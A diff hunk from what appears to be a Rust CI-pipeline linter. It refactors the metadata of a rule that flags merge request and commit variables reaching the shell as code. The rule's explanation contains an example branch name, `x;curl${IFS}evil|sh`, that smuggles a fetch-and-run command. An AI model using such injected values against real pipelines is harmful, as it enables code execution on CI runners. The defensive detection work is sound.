@@ -2,12 +2,10 @@
 
 #[allow(unused_imports)]
 use crate::{FileCx, JobCx, PipelineCx, Rule, RuleMeta};
-use plumb_diagnostics::{Diagnostic, Severity};
+use plumb_diagnostics::{Code, Diagnostic};
 
 pub static RULE: RuleMeta = RuleMeta {
-    code: "PL6001",
-    name: "untrusted-input",
-    severity: Severity::Error,
+    code: Code::PL6001,
     summary: r####"Text an outsider controls reaches the shell as code or unquoted."####,
     explanation: r####"Anyone who can open a merge request or push a branch chooses the values of `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_DESCRIPTION`, `CI_COMMIT_REF_NAME`, `CI_COMMIT_BRANCH` and `CI_COMMIT_AUTHOR`. Handed to `eval` or to `sh -c`/`bash -c` in a string, any of them runs as code: a branch may be named `x;curl${IFS}evil|sh`. The free-text ones (titles, descriptions, messages, authors) are also reported when expanded unquoted in a command's arguments, where the shell splits them into several arguments and expands `*`; branch names cannot hold spaces or glob characters, so unquoted they are not reported. Quote the expansion (`"$CI_COMMIT_MESSAGE"`) and never build code from it."####,
     bad: r####"pipeline p {
